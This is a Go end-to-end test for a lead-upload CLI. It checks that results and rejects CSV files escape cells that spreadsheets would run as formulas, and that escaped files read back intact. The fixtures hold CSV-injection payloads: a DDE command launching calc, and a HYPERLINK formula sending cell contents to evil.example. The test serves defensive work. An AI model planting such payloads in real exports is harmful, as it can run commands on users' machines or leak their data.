package main

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bulkload/bulkload/app"
	"github.com/bulkload/bulkload/internal/resultstest"
	"github.com/bulkload/bulkload/lead"
	"github.com/bulkload/bulkload/leadsim"
)

// formulaNote is what a careless or hostile service puts before its notes.
const formulaNote = `-2+3+cmd|' /C calc'!A0 `

// startFormulaSim starts a leadsim behind a proxy that puts formulaNote at
// the start of every note the service answers.
func startFormulaSim(t *testing.T) *sim {
	t.Helper()
	return startTestSimHandler(t, leadsim.Options{}, func(s *leadsim.Server) http.Handler {
		return formulaNotes(s.Handler())
	})
}

// formulaNotes serves h, putting formulaNote at the start of every note.
func formulaNotes(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		body := bytes.ReplaceAll(rec.Body.Bytes(), []byte(`"note":"`), []byte(`"note":"`+formulaNote))
		for k, v := range rec.Header() {
			w.Header()[k] = v
		}
		w.Header().Del("Content-Length")
		w.WriteHeader(rec.Code)
		_, _ = w.Write(body)
	})
}

// TestOutputsNeutraliseFormulas is issue 18 item 9, end to end: partner
// cells (leadId, ref, names) and service notes that begin with a formula
// character reach no cell of the results or rejects CSV unescaped; the
// results file reads back for --resume (nothing is sent again), and the
// rejects file fed back as an input gives the original values and the same
// errors (a negative amount stays the number it was).
func TestOutputsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	s := startFormulaSim(t)
	dir := t.TempDir()
	recs := readCSVFile(t, filepath.Join(samples, "leads.csv"))
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	// Row 1 is sent, with formula-looking leadId and ref; rows 2 and 3 are
	// invalid (a broken e-mail, a negative loan amount) and carry formulas
	// In their names and city.
	recs[1][col["leadId"]] = `=HYPERLINK("http://evil.example/?"&B2,"open")`
	recs[1][col["ref"]] = `@SUM(1+1)*cmd|' /C calc'!A0`
	recs[2][col["email"]] = "not-an-email"
	recs[2][col["firstName"]] = `=1+1`
	recs[2][col["city"]] = "\t=cmd"
	recs[3][col["loanAmount"]] = "-5000"
	recs[3][col["lastName"]] = `'s-Hertogenbosch`
	recs[3][col["address1"]] = `+1+1`
	input := filepath.Join(dir, "export.csv")
	resultstest.WriteCSV(t, input, recs)
	results := filepath.Join(dir, "export.results.csv")
	rejects := filepath.Join(dir, "export.rejects.csv")

	args := slices.Concat([]string{"upload"}, s.args(), []string{"--results", results, "--rejects", rejects, "--progress", "off", "--rate", "0"})
	res := runCLI(t, secretEnv(), append(args, input)...)
	if res.code != app.ExitOK {
		t.Fatalf("upload: exit %d, want %d (two invalid rows, within --max-invalid)\n%s", res.code, app.ExitOK, res.stderr)
	}
	assertNoFormulaCell(t, results)
	assertNoFormulaCell(t, rejects)
	rows := readResults(t, results)
	if got := lead.UnescapeCell(rows[0]["leadId"]); got != recs[1][col["leadId"]] {
		t.Errorf("results row 1 leadId = %q, unescaped %q, want %q", rows[0]["leadId"], got, recs[1][col["leadId"]])
	}
	if !strings.HasPrefix(rows[0]["note"], "'"+formulaNote) {
		t.Errorf("results row 1 note = %q, want the service's formula escaped", rows[0]["note"])
	}

	// The results file reads back: a resume sends nothing again.
	calls := len(s.Stats().CreateCalls)
	res = runCLI(t, secretEnv(), append(args, "--resume", input)...)
	if res.code != app.ExitOK {
		t.Fatalf("--resume: exit %d, want %d\n%s", res.code, app.ExitOK, res.stderr)
	}
	if n := len(s.Stats().CreateCalls); n != calls {
		t.Errorf("--resume sent %d leads again; the escaped results were not read back", n-calls)
	}

	// The rejects file, fed back unchanged, gives the original values: its
	// own rejects (validate) hold the rows as the input had them.
	again := filepath.Join(dir, "again.rejects.csv")
	res = runCLI(t, nil, "validate", "--results", filepath.Join(dir, "v.csv"), "--rejects", again, rejects)
	if res.code != app.ExitRowsFailed {
		t.Fatalf("validate rejects: exit %d, want %d\n%s", res.code, app.ExitRowsFailed, res.stderr)
	}
	first := readCSVFile(t, rejects)
	second := readCSVFile(t, again)
	if len(second) != 3 {
		t.Fatalf("rejects fed back gave %d lines, want the header and 2 rows\n%s", len(second), res.stderr)
	}
	for i, want := range [][]string{recs[2], recs[3]} {
		got := second[i+1][1:]
		for j := range got {
			got[j] = lead.UnescapeCell(got[j])
		}
		if !slices.Equal(got, want) {
			t.Errorf("rejects fed back, row %d = %q, want the input's %q", i+1, got, want)
		}
		if first[i+1][0] != second[i+1][0] {
			t.Errorf("rejects fed back, row %d error = %q, want the same as the first run's %q", i+1, second[i+1][0], first[i+1][0])
		}
	}
	if b, _ := os.ReadFile(again); !bytes.Contains(b, []byte(",-5000,")) {
		t.Errorf("the negative loan amount is not kept as the number -5000 in the rejects:\n%s", b)
	}
}

// assertNoFormulaCell fails on a cell of a CSV file that a spreadsheet
// would run: one that begins with =, +, -, @, tab or CR and is not a plain
// number.
func assertNoFormulaCell(t *testing.T, path string) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cr := csv.NewReader(f)
	cr.FieldsPerRecord = -1
	for line := 1; ; line++ {
		rec, err := cr.Read()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && lead.EscapeCell(c) != c {
				t.Errorf("%s line %d has the cell %q, which a spreadsheet runs as a formula", filepath.Base(path), line, c)
			}
		}
	}
}
